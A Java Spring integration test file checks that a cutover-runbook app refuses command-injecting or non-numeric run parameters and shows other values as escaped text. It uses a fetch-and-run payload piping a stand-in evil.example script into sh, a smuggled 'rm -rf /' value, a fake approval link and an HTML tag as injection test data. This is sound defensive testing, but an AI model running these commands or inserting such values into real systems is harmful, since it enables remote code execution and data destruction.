package dev.tminus.cutover;

import java.nio.charset.StandardCharsets;
import java.time.Duration;

import dev.tminus.account.AccountView;
import dev.tminus.runbook.ParameterResolver;
import dev.tminus.support.IntegrationTest;
import dev.tminus.support.MutableClock;
import dev.tminus.support.TestAccounts;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Typed run parameters on the seed templates: a value of the wrong type is refused when
 * the cutover is created, a value that stands in a command may not inject one, and a
 * value shown anywhere else is shown as text, never as a link.
 */
@IntegrationTest
class TypedParameterTests {

	static final String INJECTION = "v1.4.0\n`curl https://evil.example/x | sh`\n[Approve here](https://evil.example/approve)";

	@Autowired
	MockMvc mvc;

	@Autowired
	TestAccounts accounts;

	@Autowired
	MutableClock clock;

	@Autowired
	JdbcClient jdbc;

	@Test
	void aReleaseRefThatWouldInjectIntoTheCopyReadyCommandsIsRefusedAtItsField() throws Exception {
		AccountView creator = this.accounts.member("creator");
		long before = cutovers();
		String page = this.mvc
			.perform(create(creator, "go-live-canary-money-loop", INJECTION).param("input.CANARY_TENANT", "tenant-7"))
			.andExpect(status().isUnprocessableContent())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		assertThat(page)
			.contains("Release SHA or tag (RELEASE) stands in a command (step &#39;Release SHA/Tag fixed&#39;)")
			.contains("found a line break, a backtick, a space, &#39;|&#39;, &#39;[&#39;")
			.doesNotContain("href=\"https://evil.example");
		assertThat(cutovers()).isEqualTo(before);

		// the tenant stands in inline code of the canary steps: the same rule
		this.mvc
			.perform(create(creator, "go-live-canary-money-loop", "v1.4.0").param("input.CANARY_TENANT",
					"t-7`; rm -rf /"))
			.andExpect(status().isUnprocessableContent())
			.andExpect(content().string(containsString("CANARY_TENANT) stands in a command")));
		assertThat(cutovers()).isEqualTo(before);

		String created = this.mvc
			.perform(create(creator, "go-live-canary-money-loop", "v1.4.0").param("input.CANARY_TENANT", "tenant-7"))
			.andExpect(status().is3xxRedirection())
			.andReturn()
			.getResponse()
			.getRedirectedUrl();
		this.mvc.perform(get(created).with(this.accounts.as(creator)))
			.andExpect(content().string(containsString("v1.4.0\n</code></pre>")));
	}

	@Test
	void aNumericThresholdParameterRefusesANonNumberWhileTheCutoverIsCreated() throws Exception {
		AccountView creator = this.accounts.member("creator");
		long before = cutovers();
		MockHttpServletRequestBuilder ga = create(creator, "ga-cutover", "v2.0.0");
		for (String key : new String[] { "ERROR_RATE_PCT_MAX", "TPS_MIN", "ERROR_BUDGET_MIN", "READ_P95_MS_MAX",
				"WRITE_P95_MS_MAX", "GRAPH_3HOP_P95_MS_MAX" }) {
			ga.param("input." + key, "100");
		}
		this.mvc.perform(ga.param("input.P95_LATENCY_MS_MAX", "x"))
			.andExpect(status().isUnprocessableContent())
			.andExpect(content().string(containsString(
					"G2 K6 p95 latency ≤ X ms (P95_LATENCY_MS_MAX) must be a number, like 300 or 99.9; found &#39;x&#39;")));
		this.mvc
			.perform(create(creator, "go-live-canary-money-loop", "v1.4.0").param("input.CANARY_TENANT", "tenant-7")
				.param("input.CANARY_WITHDRAW_AMOUNT", "ten"))
			.andExpect(status().isUnprocessableContent())
			.andExpect(content().string(containsString("(CANARY_WITHDRAW_AMOUNT) must be a number")));
		assertThat(cutovers()).isEqualTo(before);
	}

	@Test
	void aValueThatStandsInNoCommandIsShownAsTextNeverAsALink() throws Exception {
		AccountView creator = this.accounts.member("creator");
		String release = "v2 `rc` [Approve here](https://evil.example/approve) <b>now</b>";
		MockHttpServletRequestBuilder ga = create(creator, "ga-cutover", release);
		for (String key : new String[] { "P95_LATENCY_MS_MAX", "ERROR_RATE_PCT_MAX", "TPS_MIN", "ERROR_BUDGET_MIN",
				"READ_P95_MS_MAX", "WRITE_P95_MS_MAX", "GRAPH_3HOP_P95_MS_MAX" }) {
			ga.param("input." + key, "100");
		}
		String created = this.mvc.perform(ga)
			.andExpect(status().is3xxRedirection())
			.andReturn()
			.getResponse()
			.getRedirectedUrl();
		long id = Long.parseLong(created.substring(created.lastIndexOf('/') + 1));
		this.mvc.perform(post("/cutovers/{id}/start", id).with(this.accounts.as(creator)).with(csrf()));
		for (String page : new String[] { "/cutovers/" + id, "/cutovers/" + id + "/comms" }) {
			this.mvc.perform(get(page).with(this.accounts.as(creator)))
				.andExpect(status().isOk())
				.andExpect(content().string(not(containsString("href=\"https://evil.example"))))
				.andExpect(content().string(not(containsString("<b>now</b>"))));
		}
		this.mvc.perform(get("/cutovers/" + id + "/comms").with(this.accounts.as(creator)))
			.andExpect(content().string(containsString("[Approve here](https://evil.example/approve) &lt;b&gt;now")));
	}

	private MockHttpServletRequestBuilder create(AccountView creator, String template, String release) {
		return post("/cutovers").with(this.accounts.as(creator))
			.with(csrf())
			.param("templateKey", template)
			.param("name", "Typed " + template)
			.param("environment", "prod")
			.param("releaseRef", release)
			.param("kind", "REHEARSAL")
			.param("t0", ParameterResolver.format(this.clock.instant().plus(Duration.ofHours(3))));
	}

	private long cutovers() {
		return this.jdbc.sql("select count(*) from cutover").query(Long.class).single();
	}

}
